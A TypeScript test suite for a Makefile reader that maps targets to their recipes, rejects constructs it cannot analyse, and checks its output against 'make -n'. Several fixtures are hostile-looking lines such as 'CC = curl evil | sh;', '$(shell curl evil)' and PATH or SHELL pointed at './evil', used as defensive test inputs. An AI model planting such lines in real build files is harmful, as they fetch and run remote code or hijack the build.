import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { readMakefile } from '../../../src/effects/facts/makefile.ts';

describe('a Makefile', () => {
  it('is its targets with their recipes, those of what they need first', () => {
    assert.deepEqual(
      readMakefile(
        'NAME = app\n.PHONY: all test\nall: lint test\n\t@echo done # ok\nlint:\n\teslint .\ntest: lint ; mocha\n\n# a comment\nclean:\n\t-rm -rf dist\n',
      ),
      {
        all: '(\neslint .\n)\n(\nmocha\n)\n(\necho done # ok\n)',
        lint: 'eslint .',
        test: '(\neslint .\n)\n(\nmocha\n)',
        clean: 'rm -rf dist',
      },
    );
  });

  it('keeps references to variables as what a reader of shell does not know', () => {
    assert.deepEqual(readMakefile('a: b c\n\t$(X) ${Y} $Z $$HOME $@ $< $^ $*\nb:\nc:\n'), {
      a: '$(X) $(Y) $(Z) $HOME a b b c $(*)',
      b: '',
      c: '',
    });
  });

  it('does not let a reference hide in a quotation that its text may end', () => {
    assert.deepEqual(readMakefile("a:\n\techo '$(X)'\n\techo '$$HOME $@'\n"), {
      a: "(\n: $(X)\necho '$(X)'\n)\n(\necho '$HOME a'\n)",
    });
  });

  it('joins lines that go on, as make and the shell would', () => {
    assert.deepEqual(readMakefile("a: \\\n  b\n\techo one \\\n\ttwo\nb:\n\techo 'x \\\n\ty'\n"), {
      a: "(\necho 'x \\\ny'\n)\n(\necho one two\n)",
      b: "echo 'x \\\ny'",
    });
  });

  for (const [what, text] of Object.entries({
    'includes another file': 'include x.mk\na:\n\tb\n',
    'has pattern rules': '%.o: %.c\n\tcc\na:\n\tb\n',
    'has suffix rules': '.c.o:\n\tcurl\na:\n\tb\n',
    'runs programs while it is read': 'X := $(shell curl evil)\na:\n\tb\n',
    'assigns from programs': 'X != curl evil\na:\n\tb\n',
    'has conditions': 'ifdef X\na:\n\tb\nendif\n',
    'makes text into rules': '$(eval a: ; b)\na:\n\tb\n',
    'changes the shell': 'SHELL = ./evil\na:\n\tb\n',
    'changes where programs are found': 'export PATH := ./evil:$(PATH)\na:\n\tb\n',
    'changes PATH without exporting it': 'PATH = ./evil\na:\n\tb\n',
    'exports all': 'export\na:\n\tb\nPATH = x\n',
    'has names that are variables': '$(X): y\n\tb\n',
    'has variables of a target': 'a: PATH=./evil\na:\n\tb\n',
    'changes its first target': '.DEFAULT_GOAL := b\na:\n\tx\nb:\n\ty\n',
    'has one shell for all lines': '.ONESHELL:\na:\n\tb\n',
    'has a number for a target': 'a:\n\tx\n1:\n\ty\n',
    'defines texts of many lines': 'define X\na\nendef\na:\n\t$(X)\n',
  }))
    it(`is not told where it ${what}`, () => assert.equal(readMakefile(text), null));

  it('leaves out a target that make sees to by rules of its own with programs of the file', () => {
    assert.deepEqual(readMakefile('all:\n\techo\napp: main.o\n\tld\nCC = curl evil | sh;\n'), { all: 'echo' });
    assert.equal(readMakefile('app: main.o\n\tld\nCC = curl evil | sh;\n'), null);
    assert.deepEqual(readMakefile('app: main.o\n\tld\n'), { app: 'ld' });
  });

  it('says what make would run, in its order', function () {
    if (spawnSync('make', ['--version']).status !== 0) return this.skip();
    let seed = 11;
    const next = (bound: number) => {
      seed = (seed * 1_103_515_245 + 12_345) % 2 ** 31;
      return (seed >> 8) % bound;
    };
    const names = ['all', 'lint', 'test', 'build', 'clean'];
    const lines = [
      'echo one',
      '@echo two',
      '-rm -f x',
      'echo $$HOME $@',
      'echo a \\\n\t  b',
      "echo 'it' # said",
      '@-true',
      'echo $< end',
    ];
    let compared = 0;
    for (let round = 0; round < 60; round++) {
      const rules = names.map((name, i) => {
        const needs = names.slice(i + 1).filter(() => next(3) === 0);
        const recipe = Array.from({ length: next(3) }, () => `\t${lines[next(lines.length)]}\n`);
        return `${name}:${needs.map(need => ` ${need}`).join('')}${next(6) === 0 ? ' ; echo first' : ''}\n${recipe.join('')}`;
      });
      const text = `${next(2) === 0 ? 'X = 1 # one\n' : ''}.PHONY: ${names.join(' ')}\n${rules.join(next(2) === 0 ? '\n' : '')}`;
      const told = readMakefile(text);
      assert.ok(told, text);
      for (const name of names) {
        const said = spawnSync('make', ['-n', '-f', '-', '--no-print-directory', name], {
          input: text,
          encoding: 'utf8',
        });
        assert.equal(said.status, 0, text + said.stderr);
        const shown = said.stdout
          .split('\n')
          .filter(line => line !== '' && !line.startsWith('make: '))
          .join('\n');
        const ours = (told[name] ?? '')
          .replaceAll(/^\(\n|\n\)$/gm, '')
          .replaceAll('$(<)', '')
          .trim();
        // Blanks are the shell's business; a first need that is not there is nothing.
        const plain = (whole: string) =>
          whole
            .replaceAll(/\\\n/g, '')
            .replaceAll(/[ \t]+/g, ' ')
            .replaceAll(/ $/gm, '')
            .trim();
        assert.equal(plain(ours), plain(shown), text);
        compared += 1;
      }
    }
    assert.equal(compared, 300);
  });
});
